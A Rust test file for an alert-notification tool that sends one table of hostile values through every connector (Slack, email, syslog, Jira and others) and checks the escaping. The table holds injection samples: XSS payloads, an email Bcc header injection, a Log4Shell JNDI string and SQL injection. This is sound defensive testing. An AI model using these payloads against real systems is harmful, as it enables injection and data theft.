//! One table: hostile values, every target. What a target's own parser reads back is the value.

use std::collections::HashMap;

use tocsin::notify::escape::{Escape, line};
use tocsin::notify::template::Template;

use super::*;

/// Values that somebody who is watched may choose.
const HOSTILE: [&str; 30] = [
    "plain",
    "\"quoted\"",
    "back\\slash\\",
    "<script>alert(1)</script>",
    "</td></tr></table><img src=x onerror=alert(1)>",
    "&amp; & &lt;",
    "<!channel> <!here>",
    "<@U012AB3CD> <#C024BE7LR>",
    "<https://evil.example|Open in Kibana>",
    "@channel @everyone @here",
    "*bold* _it_ ~no~ `code`",
    "```\nblock\n```",
    "[link](https://evil.example)",
    "![image](https://evil.example/x.png)",
    "# heading",
    "a\r\nBcc: victim@example.com",
    "a\nb\nc",
    "tab\there",
    "nul\u{0}byte",
    "\u{1b}[31mred\u{1b}[0m",
    "\u{202e}drowssap",
    "{{ rule.name }} {% raw %}",
    "${jndi:ldap://evil.example/a}",
    "%user.name %n%s",
    "]] key=\"x\" [evil@1 a=\"b\"]",
    "'; DROP TABLE alerts; --",
    "{\"text\":\"x\",\"a\":[1]}",
    "äöü 漢字 🦀",
    "{noformat} |pipe| ||head||",
    "x.y-z+1=2!(ok)#3",
];

/// What any target may do to a value: control characters and marks of direction become spaces, and
/// what breaks up a mention is not seen.
fn seen(text: &str) -> String {
    line(&text.replace('\u{200B}', ""))
}

/// HTML as a browser reads it: text without tags, entities resolved.
fn html(text: &str) -> String {
    let script = "import html.parser,sys\nclass P(html.parser.HTMLParser):\n  out=''; tags=[]\n  def handle_data(s,d): s.out+=d\n  def handle_starttag(s,t,a): s.tags.append(t)\np=P(convert_charrefs=True)\np.feed(sys.stdin.buffer.read().decode())\np.close()\nsys.stdout.buffer.write((','.join(sorted(set(p.tags)))+'\\n'+p.out).encode())";
    python(script, text)
}

/// A mail's subject and parts, as Python's mail package reads them.
fn mail(raw: &str) -> (String, Vec<String>, String) {
    let script = "import email,email.policy,sys,json\nm=email.message_from_bytes(sys.stdin.buffer.read(),policy=email.policy.default)\nparts=[p.get_content() for p in m.walk() if not p.is_multipart()]\nsys.stdout.buffer.write(json.dumps({'subject':m['subject'],'keys':sorted(set(k.lower() for k in m.keys())),'text':parts[0]}).encode())";
    let read: Value = serde_json::from_str(&python(script, raw)).unwrap();
    let keys = read["keys"].as_array().unwrap().iter().map(|key| key.as_str().unwrap().to_owned()).collect();
    (read["subject"].as_str().unwrap().to_owned(), keys, read["text"].as_str().unwrap().to_owned())
}

fn python(script: &str, input: &str) -> String {
    use std::io::Write;
    let mut child = std::process::Command::new("python3")
        .args(["-c", script])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(input.as_bytes()).unwrap();
    let output = child.wait_with_output().unwrap();
    assert!(output.status.success());
    String::from_utf8(output.stdout).unwrap()
}

/// Slack's mrkdwn: `<…>` are control sequences, three entities stand for characters.
fn mrkdwn(text: &str) -> String {
    assert!(!text.contains('<') && !text.contains('>'), "a control sequence in {text}");
    let mut rest = text;
    while let Some((_, entity)) = rest.split_once('&') {
        assert!(["amp;", "lt;", "gt;"].iter().any(|known| entity.starts_with(known)), "{text}");
        rest = entity;
    }
    text.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
}

/// `CommonMark` as the reference parser of this project reads it: only text, no structure.
fn markdown(text: &str) -> String {
    let mut out = String::new();
    use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
    // All extensions but the one that makes other quotation marks of quotation marks.
    for event in Parser::new_ext(text, Options::all() - Options::ENABLE_SMART_PUNCTUATION) {
        match event {
            Event::Text(text) => out.push_str(&text),
            Event::SoftBreak
            | Event::HardBreak
            | Event::Start(Tag::Paragraph)
            | Event::End(TagEnd::Paragraph) => out.push(' '),
            other => panic!("{other:?} in {text}"),
        }
    }
    out
}

/// The structured data of a record of RFC 5424: parameters by name, and the message.
fn rfc5424(record: &str) -> (HashMap<String, String>, String) {
    let mut words = record.splitn(7, ' ');
    let head: Vec<&str> = words.by_ref().take(6).collect();
    assert!(head[0].starts_with('<') && head[0].ends_with(">1"), "{record}");
    chrono::DateTime::parse_from_rfc3339(head[1]).unwrap();
    let rest = words.next().unwrap();
    let mut chars = rest.chars();
    assert_eq!(chars.next(), Some('['));
    let mut parameters = HashMap::new();
    let id: String = chars.by_ref().take_while(|c| *c != ' ').collect();
    assert_eq!(id, "tocsin@32473");
    'data: loop {
        let name: String = chars.by_ref().take_while(|c| *c != '=').collect();
        assert!(name.chars().all(|c| c.is_ascii_alphanumeric()), "{name} in {record}");
        assert_eq!(chars.next(), Some('"'));
        let mut value = String::new();
        loop {
            match chars.next().unwrap() {
                '\\' => value.push(chars.next().unwrap()),
                '"' => break,
                ']' => panic!("an unescaped bracket in {record}"),
                c => value.push(c),
            }
        }
        parameters.insert(name, value);
        match chars.next() {
            Some(' ') => {}
            Some(']') => break 'data,
            other => panic!("{other:?} in {record}"),
        }
    }
    (parameters, chars.as_str().trim_start_matches([' ', '\u{FEFF}']).to_owned())
}

/// An alert in which a hostile value stands wherever one can.
fn hostile(value: &str) -> AlertRow {
    row(
        "a",
        &json!({
            "user": {"name": value}, "source": {"ip": value}, "kibana.alert.reason": format!("reason {value} end"),
            "kibana.alert.rule.name": format!("rule {value} end"), "event": {"action": value},
        }),
    )
}

/// Sends every hostile value through a connector; what its target got, in order.
async fn through(connector: &str, reply: Value) -> Vec<Asked> {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(move |_, _| Reply::json(200, &reply));
    let text = format!(
        "[[connector]]\nname = \"t\"\nrate = \"1000/s\"\nconcurrency = 1\n{}\n[[route]]\nto = [\"t\"]\n",
        connector.replace("URL", &server.url)
    );
    let house = House::open(dir.path(), &text);
    for (number, value) in HOSTILE.iter().enumerate() {
        house.alert(vec![AlertRow { id: format!("a{number:02}").into(), ..hostile(value) }]);
    }
    house.until_delivered(HOSTILE.len()).await;
    let deliveries = house.deliveries();
    house.close().await;
    let mut asked = server.asked();
    let place =
        |asked: &Asked| deliveries.iter().find(|d| asked.body.contains(&d.key)).map_or(0, |d| d.number);
    if asked.iter().all(|one| place(one) > 0) {
        asked.sort_by_key(place);
    }
    assert_eq!(asked.len(), HOSTILE.len(), "each once, none refused");
    asked
}

fn each(asked: &[Asked], check: impl Fn(&Value, &str)) {
    for (asked, value) in asked.iter().zip(HOSTILE) {
        check(&body(asked), &seen(value));
    }
}

fn fact<'f>(facts: impl Iterator<Item = &'f Value>, name: &str, key: &str, text: &str) -> String {
    facts.into_iter().find(|fact| fact[key] == name).unwrap()[text].as_str().unwrap().to_owned()
}

#[test]
fn values_come_back_from_each_parser_as_they_were() {
    for value in HOSTILE {
        let context = json!({"v": value});
        let rendered = |escape| Template::parse("A{{ v }}Z", escape).unwrap().render(&context).unwrap();
        let expected = format!("A{value}Z");
        let wrapped =
            Template::parse("{\"t\": \"{{ v }}\"}", Escape::Json).unwrap().render(&context).unwrap();
        assert_eq!(serde_json::from_str::<Value>(&wrapped).unwrap()["t"], value, "JSON");
        let read = html(&rendered(Escape::Html));
        assert_eq!(
            seen(read.strip_prefix('\n').unwrap_or_else(|| panic!("a tag in {read}"))),
            seen(&expected),
            "HTML"
        );
        assert_eq!(seen(&mrkdwn(&rendered(Escape::Mrkdwn))), seen(&expected), "mrkdwn");
        assert_eq!(seen(&markdown(&rendered(Escape::Markdown))), seen(&expected), "Markdown");
        let plain = rendered(Escape::Plain);
        assert!(!plain.contains(|c: char| c.is_control() && c != '\n' && c != '\t'), "plain: {plain:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn json_targets() {
    let asked = through("type = \"webhook\"\nurl = \"URL\"", json!({})).await;
    each(&asked, |body, value| {
        assert_eq!(fact(body["facts"].as_array().unwrap().iter(), "who", "name", "value"), *value);
        assert_eq!(seen(body["rule"].as_str().unwrap()), seen(&format!("rule {value} end")));
    });
    let asked =
        through("type = \"pagerduty\"\nrouting_key = \"k\"\nurl = \"URL\"", json!({"status": "success"}))
            .await;
    each(&asked, |body, value| {
        assert_eq!(body["payload"]["custom_details"]["who"], *value);
        assert!(!body["payload"]["summary"].as_str().unwrap().contains('\n'));
    });
    let asked = through("type = \"alertmanager\"\nurl = \"URL\"", json!({})).await;
    each(&asked, |body, value| {
        assert_eq!(
            seen(body[0]["labels"]["alertname"].as_str().unwrap()),
            seen(&format!("rule {value} end"))
        );
    });
    let asked = through("type = \"otlp\"\nurl = \"URL\"", json!({})).await;
    each(&asked, |body, value| {
        let record = &body["resourceLogs"][0]["scopeLogs"][0]["logRecords"][0];
        let who = record["attributes"].as_array().unwrap().iter().find(|a| a["key"] == "who").unwrap();
        assert_eq!(who["value"]["stringValue"], *value);
    });
}

#[tokio::test(flavor = "multi_thread")]
async fn chats() {
    let asked = through("type = \"slack\"\nwebhook_url = \"URL\"", json!({"ok": true})).await;
    each(&asked, |body, value| {
        let fields =
            body["blocks"].as_array().unwrap().iter().find_map(|block| block["fields"].as_array()).unwrap();
        let who = fields
            .iter()
            .map(|f| f["text"].as_str().unwrap())
            .find_map(|t| t.strip_prefix("*who*\n"))
            .unwrap();
        assert_eq!(seen(&mrkdwn(who)), *value);
        assert_eq!(seen(&mrkdwn(body["text"].as_str().unwrap())), seen(&format!("[high] rule {value} end")));
    });
    for (connector, path) in [("mattermost", "/text"), ("discord", "/content")] {
        let asked = through(&format!("type = \"{connector}\"\nwebhook_url = \"URL\""), json!({})).await;
        each(&asked, |body, value| {
            let text = body.pointer(path).unwrap().as_str().unwrap();
            let who = text.lines().find_map(|line| line.strip_prefix("**who**: ")).unwrap();
            assert_eq!(seen(&markdown(who)), *value, "{connector}");
            assert!(!text.contains("@channel") && !text.contains("@everyone"), "{text}");
        });
    }
    let asked = through("type = \"teams\"\nwebhook_url = \"URL\"", json!({})).await;
    each(&asked, |body, value| {
        let card = body["attachments"][0]["content"]["body"].as_array().unwrap();
        let facts = card.iter().find_map(|block| block["facts"].as_array()).unwrap();
        assert_eq!(seen(&markdown(&fact(facts.iter(), "who", "title", "value"))), *value);
    });
}

#[tokio::test(flavor = "multi_thread")]
async fn cases() {
    for (connector, path) in [
        ("type = \"jira\"\nurl = \"URL\"\nproject = \"P\"\ntoken = \"t\"", "/fields/description"),
        ("type = \"servicenow\"\nurl = \"URL\"", "/description"),
        ("type = \"thehive\"\nurl = \"URL\"", "/description"),
        ("type = \"iris\"\nurl = \"URL\"", "/alert_description"),
        ("type = \"opsgenie\"\nurl = \"URL\"\ntoken = \"t\"", "/description"),
    ] {
        let asked = through(connector, json!({"status": "success"})).await;
        each(&asked, |body, value| {
            let text = body.pointer(path).unwrap().as_str().unwrap();
            let who = text.lines().find_map(|line| line.strip_prefix("who: ")).unwrap();
            assert_eq!(who.replace("{ noformat }", "{noformat}"), *value, "{connector}");
        });
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn aws_forms() {
    let keys = "region = \"eu-west-1\"\naccess_key_id = \"a\"\nsecret_access_key = \"s\"";
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(|_, _| Reply::Answer(200, Vec::new(), "<MessageId>m</MessageId>".into()));
    let text = format!(
        "[[connector]]\nname = \"t\"\ntype = \"sns\"\ntopic_arn = \"arn:aws:sns:eu-west-1:1:t\"\nurl = \"{}\"\n{keys}\nconcurrency = 1\n[[route]]\nto = [\"t\"]\n",
        server.url
    );
    let house = House::open(dir.path(), &text);
    for (number, value) in HOSTILE.iter().enumerate() {
        house.alert(vec![AlertRow { id: format!("a{number:02}").into(), ..hostile(value) }]);
    }
    house.until_delivered(HOSTILE.len()).await;
    house.close().await;
    for (asked, value) in server.asked().iter().zip(HOSTILE) {
        let url = reqwest::Url::parse(&format!("http://h/?{}", asked.body)).unwrap();
        let form: HashMap<String, String> = url.query_pairs().into_owned().collect();
        assert!(
            form["Subject"].is_ascii() && form["Subject"].len() <= 100 && !form["Subject"].contains('\n')
        );
        let who = form["Message"].lines().find_map(|line| line.strip_prefix("who: ")).unwrap();
        assert_eq!(who, seen(value));
        assert_eq!(form["TopicArn"], "arn:aws:sns:eu-west-1:1:t");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn records_of_syslog() {
    use std::io::Read;
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let got = Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
    let sink = Arc::clone(&got);
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let mut text = String::new();
            stream.unwrap().read_to_string(&mut text).unwrap();
            let (length, record) = text.split_once(' ').unwrap();
            assert_eq!(length.parse::<usize>().unwrap(), record.len(), "octets are counted");
            sink.lock().unwrap().push(record.to_owned());
        }
    });
    let dir = tempfile::tempdir().unwrap();
    let text = format!(
        "[[connector]]\nname = \"t\"\ntype = \"syslog\"\naddress = \"{address}\"\nconcurrency = 1\n[[route]]\nto = [\"t\"]\n"
    );
    let house = House::open(dir.path(), &text);
    for (number, value) in HOSTILE.iter().enumerate() {
        house.alert(vec![AlertRow { id: format!("a{number:02}").into(), ..hostile(value) }]);
    }
    house.until_delivered(HOSTILE.len()).await;
    house.close().await;
    let got = got.lock().unwrap().clone();
    for (record, value) in got.iter().zip(HOSTILE) {
        let (parameters, message) = rfc5424(record);
        assert_eq!(parameters["rule"], seen(&format!("rule {value} end")));
        assert!(message.contains(&seen(&format!("reason {value} end"))), "{message}");
        assert!(!record.contains(['\n', '\r', '\u{1b}', '\0']));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn headers_and_parts_of_mail() {
    let dir = tempfile::tempdir().unwrap();
    let (address, got) = super::smtp::server();
    let text = format!(
        "[[connector]]\nname = \"t\"\ntype = \"email\"\nhost = \"127.0.0.1\"\nport = {}\ntls = \"none\"\nfrom = \"tocsin@example.com\"\nto = [\"soc@example.com\"]\nconcurrency = 1\n[[route]]\nto = [\"t\"]\n",
        address.port()
    );
    let house = House::open(dir.path(), &text);
    for (number, value) in HOSTILE.iter().enumerate() {
        house.alert(vec![AlertRow { id: format!("a{number:02}").into(), ..hostile(value) }]);
    }
    house.until_delivered(HOSTILE.len()).await;
    house.close().await;
    let got = got.lock().unwrap().clone();
    assert_eq!(got.len(), HOSTILE.len());
    for (raw, value) in got.iter().zip(HOSTILE) {
        let (subject, keys, text) = mail(raw);
        assert_eq!(seen(&subject), seen(&format!("[high] rule {value} end")));
        assert!(!keys.contains(&"bcc".to_owned()), "{keys:?}");
        let who = text.lines().find_map(|line| line.strip_prefix("who: ")).unwrap();
        assert_eq!(seen(who), seen(value));
    }
}
